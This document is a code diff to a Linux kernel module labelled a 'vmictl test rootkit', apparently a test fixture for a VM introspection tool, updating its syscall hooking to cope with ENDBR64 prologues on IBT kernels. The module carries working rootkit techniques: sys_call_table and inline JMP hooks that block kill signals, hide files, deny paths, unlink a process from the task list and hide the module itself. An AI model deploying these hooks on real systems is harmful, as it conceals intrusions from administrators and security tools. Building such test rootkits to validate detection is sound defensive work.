@@ -10,7 +10,9 @@
  * Since 6.1 stable dispatches system calls through x64_sys_call (a switch calling the handlers
  * directly), changing sys_call_table alone has no effect: each hook is installed both in the
  * table and as a 5-byte JMP over the handler's (boot-time NOP'd) __fentry__ call, and the hook
- * calls the handler's body just after those 5 bytes.
+ * calls the handler's body just after those 5 bytes. That call is the handler's first
+ * instruction, or its second behind an ENDBR64 when the kernel is built for IBT (Debian 13's
+ * 6.12 is, Debian 12's 6.1 is not): the ENDBR64 is kept, as ftrace keeps it.
  */
 #include <linux/module.h>
 #include <linux/kernel.h>
@@ -21,7 +23,9 @@
 #include <linux/dirent.h>
 #include <linux/sched/signal.h>
 #include <linux/pid.h>
+#include <linux/stop_machine.h>
 #include <asm/unistd.h>
+#include <asm/nops.h>
 
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("vmictl test rootkit");
@@ -45,9 +49,10 @@ struct hook {
 	const char *handler;
 	syscall_fn fn;
 	unsigned long addr;     /* the handler */
-	syscall_fn body;        /* the handler after its 5-byte __fentry__ slot */
+	u8 *slot;               /* its 5-byte __fentry__ slot */
+	syscall_fn body;        /* the handler after that slot */
 	unsigned long old_entry;
-	u64 old_head;
+	u8 old_slot[5];
 	bool installed;
 };
 
@@ -131,21 +136,42 @@ static void write_protected(void *dst, const void *src, size_t len)
 	local_irq_restore(flags);
 }
 
+struct text_patch {
+	void *dst;
+	const void *src;
+	size_t len;
+};
+
+static int patch_stopped(void *arg)
+{
+	struct text_patch *p = arg;
+
+	write_protected(p->dst, p->src, p->len);
+	return 0;
+}
+
+/*
+ * Behind an ENDBR64 the slot crosses an 8-byte boundary, so no single store replaces it: the
+ * other CPUs wait in stop_machine meanwhile. No task can be inside the slot (one instruction),
+ * and one stopped just before it resumes on the JMP.
+ */
+static void patch_text(void *dst, const void *src, size_t len)
+{
+	struct text_patch p = { dst, src, len };
+
+	stop_machine(patch_stopped, &p, NULL);
+}
+
 static void install(struct hook *h)
 {
-	u64 head;
-	u8 *p = (u8 *)&head;
-	s32 rel;
+	u8 jmp[5] = { 0xe9 };
+	s32 rel = (s32)((long)h->fn - (long)(h->slot + 5));
 
 	h->old_entry = table[h->nr];
 	write_protected(&table[h->nr], &(unsigned long){ (unsigned long)h->fn }, sizeof(unsigned long));
-	/* one aligned 8-byte store: JMP rel32 to the hook, then the 3 bytes that were there */
-	h->old_head = *(u64 *)h->addr;
-	head = h->old_head;
-	rel = (s32)((long)h->fn - (long)(h->addr + 5));
-	p[0] = 0xe9;
-	memcpy(p + 1, &rel, 4);
-	write_protected((void *)h->addr, &head, 8);
+	memcpy(h->old_slot, h->slot, sizeof(h->old_slot));
+	memcpy(jmp + 1, &rel, 4);
+	patch_text(h->slot, jmp, sizeof(jmp));
 	h->installed = true;
 }
 
@@ -153,9 +179,25 @@ static void uninstall(struct hook *h)
 {
 	if (!h->installed)
 		return;
-	write_protected((void *)h->addr, &h->old_head, 8);
+	patch_text(h->slot, h->old_slot, sizeof(h->old_slot));
 	write_protected(&table[h->nr], &h->old_entry, sizeof(unsigned long));
 	h->installed = false;
+}
+
+static const u8 nop5[] = { BYTES_NOP5 };
+
+static bool is_endbr64(const u8 *p)
+{
+	return p[0] == 0xf3 && p[1] == 0x0f && p[2] == 0x1e && p[3] == 0xfa;
+}
+
+static bool wanted(int i)
+{
+	switch (i) {
+	case 0: return drop_kill_pid > 0;
+	case 1: return hide_name && *hide_name;
+	default: return deny_path && *deny_path;
+	}
 }
 
 static int __init rk_init(void)
@@ -172,32 +214,42 @@ static int __init rk_init(void)
 	table = (unsigned long *)lookup("sys_call_table");
 	if (!table)
 		return -ENOENT;
+	/* everything is looked up before anything changes, so a refusal leaves the kernel as it was */
 	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
 		struct hook *h = &hooks[i];
-		bool want = (i == 0 && drop_kill_pid > 0) || (i == 1 && hide_name && *hide_name) || (i == 2 && deny_path && *deny_path);
 
-		if (!want)
+		if (!wanted(i))
 			continue;
 		h->addr = lookup(h->handler);
-		if (!h->addr || (h->addr & 7))
+		if (!h->addr)
 			return -ENOENT;
-		h->body = (syscall_fn)(h->addr + 5);
-		install(h);
+		h->slot = (u8 *)h->addr + (is_endbr64((u8 *)h->addr) ? 4 : 0);
+		/* the slot must hold ftrace's NOP: anything else (traced, hooked already) is not ours */
+		if (memcmp(h->slot, nop5, sizeof(nop5)) != 0)
+			return -EBUSY;
+		h->body = (syscall_fn)(h->slot + 5);
 	}
 	if (unlink_pid > 0) {
 		struct task_struct *t;
+		/* tasklist_lock is not exported either */
 		rwlock_t *tasklist = (rwlock_t *)lookup("tasklist_lock");
 
+		if (!tasklist)
+			return -ENOENT;
 		rcu_read_lock();
 		t = pid_task(find_vpid(unlink_pid), PIDTYPE_PID);
-		/* tasklist_lock is not exported either */
-		if (t && tasklist) {
-			write_lock_irq(tasklist);
-			list_del_init(&t->tasks);
-			write_unlock_irq(tasklist);
+		if (!t) {
+			rcu_read_unlock();
+			return -ESRCH;
 		}
+		write_lock_irq(tasklist);
+		list_del_init(&t->tasks);
+		write_unlock_irq(tasklist);
 		rcu_read_unlock();
 	}
+	for (i = 0; i < ARRAY_SIZE(hooks); i++)
+		if (wanted(i))
+			install(&hooks[i]);
 	if (hide_module)
 		list_del_init(&THIS_MODULE->list);
 	pr_info("vmictl_rk: loaded (drop_kill_pid=%d hide_name=%s deny_path=%s unlink_pid=%d hide_module=%d)\n",
